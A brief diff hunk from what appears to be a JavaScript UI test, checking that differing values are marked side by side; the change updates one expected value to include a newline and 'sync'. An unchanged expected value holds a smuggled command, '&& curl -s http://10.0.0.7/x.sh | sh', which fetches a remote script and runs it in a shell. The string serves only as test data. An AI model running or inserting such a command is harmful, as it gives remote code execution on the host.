@@ -100,7 +100,7 @@ test('values are side by side with exactly the difference marked', () => {
     [...finding.querySelectorAll('mark')].map(({ textContent }) => textContent),
   );
   expect(marks[0]).toEqual(['644', '777', ' && curl -s http://10.0.0.7/x.sh | sh']);
-  expect(marks[1]).toEqual(['5', '60']);
+  expect(marks[1]).toEqual(['5', '60\nsync']);
   expect(document.querySelectorAll('.finding')[4]?.querySelectorAll('.side')).toHaveLength(3);
 });
 
